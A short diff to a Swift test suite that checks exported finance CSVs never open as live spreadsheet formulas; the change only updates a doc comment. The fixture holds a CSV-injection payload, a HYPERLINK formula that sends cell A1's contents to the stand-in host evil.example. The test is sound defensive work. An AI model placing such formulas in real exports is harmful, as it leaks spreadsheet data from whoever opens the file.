@@ -4,7 +4,7 @@ import Postgres
 import Testing
 import TestSupport
 
-/// Contract section 7: no CSV the job writes opens as a live formula in finance's spreadsheet.
+/// docs/reports.md, "Finance audit CSV": no CSV the job writes opens as a live formula in finance's spreadsheet.
 @Suite struct FormulaSafeCSVTests {
     static let hostileAccount = #"=HYPERLINK("http://evil.example/?"&A1,"refund")"#
 
